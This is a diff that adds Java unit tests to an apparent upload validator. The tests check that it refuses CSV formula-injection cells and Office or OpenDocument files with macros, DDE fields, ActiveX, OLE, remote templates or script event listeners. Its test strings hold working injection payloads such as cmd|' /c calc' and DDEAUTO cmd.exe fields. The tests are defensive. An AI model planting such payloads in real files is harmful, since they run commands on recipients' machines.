@@ -7,6 +7,7 @@ import app.chancery.platform.refusal.Refused;
 import app.chancery.platform.refusal.TooLarge;
 import java.io.IOException;
 import java.nio.charset.Charset;
+import java.nio.charset.StandardCharsets;
 import java.time.Duration;
 import java.util.Arrays;
 import java.util.LinkedHashMap;
@@ -90,6 +91,81 @@ class IncomingFilesTest {
     }
   }
 
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "=cmd|calc!A1",
+        "name,=cmd|' /c calc'!A1",
+        "\uFEFF=1+1",
+        "a;b\nc;=SUM(A1:A9)",
+        "a\tb\r\nc\t =WEBSERVICE(A1)",
+        "a|=1+1",
+        "sep=x\naxb\ncx=1+1",
+        "a,\"\n =HYPERLINK(\"\"http://x\"\"&A1)\"",
+        "+cmd|' /c calc'!A1",
+        "-2+3+cmd|' /c calc'!A1",
+        "@SUM(1+9)*cmd|' /c calc'!A1",
+        "-1+IMPORTXML(A1)",
+        "\uFF1Dcmd|calc!A1",
+        "\uFF0BHYPERLINK (A1)",
+        "a\r=1+1",
+        "ID;PWXL;N;E"
+      })
+  void aTableWithACellThatASheetRunsIsRefused(String table) {
+    for (Charset encoding : List.of(StandardCharsets.UTF_8, StandardCharsets.UTF_16)) {
+      assertThatThrownBy(() -> files.take("list.csv", table.getBytes(encoding)))
+          .as(encoding + " " + table)
+          .isInstanceOf(Refused.class)
+          .hasMessageContaining("list.csv has a cell that a sheet takes for a formula");
+    }
+    byte[] western = ("\u00E9\n" + table).getBytes(Charset.forName("windows-1252"));
+    if (table.startsWith("=")) {
+      assertThatThrownBy(() -> files.take("list.csv", western)).isInstanceOf(Refused.class);
+    }
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "name,value\nRuritania,-5\nDorelia,+3.2\n",
+        "phone\n+49 (30) 123-456\n+(32) 2 707\n",
+        "- see the annex (page 3)\n-draft (second)\n- a | b\n",
+        "@Clara Moreau,a=b,\"c, =d\"",
+        "=====\nheading\n== ==",
+        "'=1+1,-Infinity,-",
+        "x,\"never closed\ny,1"
+      })
+  void aTableOfNumbersNamesAndListsIsTaken(String table) {
+    assertThat(files.take("list.csv", SampleFiles.text(table)).content())
+        .isEqualTo(SampleFiles.text(table));
+  }
+
+  @Test
+  void aPictureMustBeReadableAsFarAsItsSize() {
+    List<String> pictures =
+        DELIVERED.keySet().stream()
+            .filter(ending -> DELIVERED.get(ending).startsWith("image/"))
+            .toList();
+    assertThat(pictures).contains("png", "webp");
+    for (String ending : pictures) {
+      byte[] whole = SampleFiles.all().get(ending);
+      for (int length : new int[] {8, 12, 20}) {
+        assertThatThrownBy(() -> files.take("x." + ending, Arrays.copyOf(whole, length)))
+            .as("%s of %s bytes", ending, length)
+            .isInstanceOf(Refused.class)
+            .hasMessageContaining("is not what its name says");
+      }
+      assertThat(files.take("x." + ending, whole).shown()).isTrue();
+    }
+  }
+
+  @Test
+  void aPdfThatDoesMoreThanToBeReadIsTakenAndNotShown() {
+    assertThat(files.take("brief.pdf", SampleFiles.pdf()).shown()).isTrue();
+    assertThat(files.take("brief.pdf", SampleFiles.pdfWithScript()).shown()).isFalse();
+    assertThat(files.take("x.docx", SampleFiles.all().get("docx")).shown()).isFalse();
+  }
+
   @Test
   void aDocumentOfOfficeIsKnownInWhateverOrderItsPartsStand() {
     assertThat(files.take("brief.docx", SampleFiles.officeInAnotherOrder()).type())
@@ -104,7 +180,13 @@ class IncomingFilesTest {
         "vbaProject.bin",
         "word/vbaData.xml",
         "xl/macrosheets/sheet1.xml",
-        "word/embeddings/Microsoft_Excel_Macro-Enabled_Worksheet.xlsm"
+        "word/embeddings/Microsoft_Excel_Macro-Enabled_Worksheet.xlsm",
+        "word/activeX/activeX1.xml",
+        "word/embeddings/oleObject1.bin",
+        "xl/externalLinks/externalLink1.xml",
+        "xl/connections.xml",
+        "xl/queryTables/queryTable1.xml",
+        "customUI/customUI14.xml"
       })
   void aDocumentOfOfficeWithMacrosIsRefusedWhateverItSaysOfItself(String part) {
     refusedForMacros("brief.docx", SampleFiles.officeWith(part, "x"));
@@ -118,7 +200,18 @@ class IncomingFilesTest {
     "officeDocument/2006/relationships/attachedTemplate,file:///\\\\server\\t.dotm,External",
     "officeDocument/2006/relationships/attachedTemplate,\\\\server\\share\\t.dotm,External",
     "officeDocument/2006/relationships/oleObject,mhtml:http://example.org/x!x,External",
-    "officeDocument/2006/relationships/frame,http://example.org/x,External"
+    "officeDocument/2006/relationships/frame,http://example.org/x,External",
+    "officeDocument/2006/relationships/image,http://example.org/x.png,External",
+    "officeDocument/2006/relationships/image,file://server/share/x.png,External",
+    "officeDocument/2006/relationships/subDocument,file:///C:/x.docx,External",
+    "officeDocument/2006/relationships/anythingNew,https://example.org/x,external",
+    "officeDocument/2006/relationships/hyperlink,javascript:alert(1),External",
+    "officeDocument/2006/relationships/oleObject,embeddings/oleObject1.bin,Internal",
+    "officeDocument/2006/relationships/control,x/x.xml,Internal",
+    "officeDocument/2006/relationships/aFChunk,afchunk.rtf,Internal",
+    "officeDocument/2006/relationships/externalLink,x/x.xml,Internal",
+    "officeDocument/2006/relationships/connections,x.xml,Internal",
+    "purl.oclc.org/ooxml/officeDocument/relationships/oleObject,x.dat,Internal"
   })
   void aDocumentOfOfficeThatLeadsToMacrosIsRefused(String type, String target, String mode) {
     refusedForMacros("brief.docx", SampleFiles.officeThatRefersTo(type, target, mode));
@@ -129,12 +222,89 @@ class IncomingFilesTest {
     "officeDocument/2006/relationships/hyperlink,https://example.org/,External",
     "officeDocument/2006/relationships/attachedTemplate,file:///C:\\Templates\\Letter.dotx,External",
     "officeDocument/2006/relationships/attachedTemplate,Letter.dotx,External",
-    "officeDocument/2006/relationships/oleObject,embeddings/oleObject1.bin,Internal"
+    "officeDocument/2006/relationships/image,media/image1.png,Internal",
+    "officeDocument/2006/relationships/package,embeddings/Worksheet1.xlsx,Internal"
   })
   void aDocumentThatRefersToWhatIsHarmlessIsTaken(String type, String target, String mode) {
     byte[] content = SampleFiles.officeThatRefersTo(type, target, mode);
 
     assertThat(files.take("brief.docx", content).content()).isEqualTo(content);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/c calc\"</w:instrText>",
+        "<w:fldChar/><w:instrText> D</w:instrText><w:instrText>DE x y</w:instrText>",
+        "<w:instrText>PAGE</w:instrText><w:fldChar/><w:instrText>includepicture \"http://x\"</w:instrText>",
+        "<w:fldSimple w:instr=' INCLUDETEXT \"\\\\server\\x.docx\"'/>",
+        "<w:fldSimple w:instr='LINK Excel.Sheet x'/>",
+        "<w:altChunk w:id='a'/>",
+        "<o:OLEObject ProgID='Package'/>",
+        "<v:imagedata src='file://server/x.png'/>",
+        "<v:imagedata src='\\\\server\\x.png'/>",
+        "<a:hlinkClick action='ppaction://program'/>",
+        "<f>_xlfn.WEBSERVICE(\"http://example.org\")</f>",
+        "<f>cmd|' /c calc'!A0</f>",
+        "<ddeLink ddeService='cmd' ddeTopic='x'/>"
+      })
+  void aDocumentOfOfficeThatRunsOrFetchesSomethingIsRefusedWhereverThatStands(String element) {
+    for (String part : List.of("word/document2.xml", "word/anything.dat")) {
+      refusedForMacros("brief.docx", SampleFiles.officeThatHas(part, element));
+    }
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "<w:instrText> PAGE \\* MERGEFORMAT </w:instrText>",
+        "<w:instrText>HYPERLINK \"https://example.org/link\"</w:instrText>",
+        "<w:instrText>TOC \\o \"1-3\" \\h</w:instrText>",
+        "<w:fldSimple w:instr='REF Link1'/>",
+        "<w:t>DDEAUTO is a field; see INCLUDETEXT</w:t>",
+        "<f>SUM(A1:A9)&amp;\"|\"</f>",
+        "<a:hlinkClick action='ppaction://hlinkshowjump?jump=nextslide'/>"
+      })
+  void aDocumentOfOfficeThatOnlyShowsSomethingIsTaken(String element) {
+    byte[] content = SampleFiles.officeThatHas("word/document2.xml", element);
+
+    assertThat(files.take("brief.docx", content).content()).isEqualTo(content);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "<o:event-listeners><script:event-listener xlink:href='vnd.sun.star.script:a.b'/></o:event-listeners>",
+        "<presentation:event-listener presentation:action='execute'/>",
+        "<text:a xlink:href='vnd.sun.star.script:Standard.Module1.Main?language=Basic'/>",
+        "<draw:image xlink:href='http://example.org/x.png'/>",
+        "<draw:image xlink:href='file://server/x.png'/>",
+        "<draw:image xlink:href='../x.png'/>",
+        "<text:section-source xlink:href='https://example.org/x.odt'/>",
+        "<text:dde-connection-decl/>",
+        "<draw:object-ole xlink:href='./Object 1'/>",
+        "<draw:plugin/>",
+        "<meta:template xlink:href='file:////server/x.ott'/>",
+        "<table:table-cell table:formula='of:=WEBSERVICE(\"http://x\")'/>"
+      })
+  void anOpenDocumentThatRunsOrFetchesSomethingIsRefused(String element) {
+    refusedForMacros("brief.odt", SampleFiles.openDocumentThatHas(element));
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "<text:a xlink:href='https://example.org/'/>",
+        "<draw:image xlink:href='Pictures/1.png'/>",
+        "<draw:object xlink:href='./Object 1'/>",
+        "<meta:template xlink:href='../../Templates/Letter.ott'/>",
+        "<presentation:event-listener presentation:action='next-page'/>",
+        "<table:table-cell table:formula='of:=SUM([.A1:.A9])'/>"
+      })
+  void anOpenDocumentThatOnlyShowsSomethingIsTaken(String element) {
+    byte[] content = SampleFiles.openDocumentThatHas(element);
+
+    assertThat(files.take("brief.odt", content).content()).isEqualTo(content);
   }
 
   @ParameterizedTest
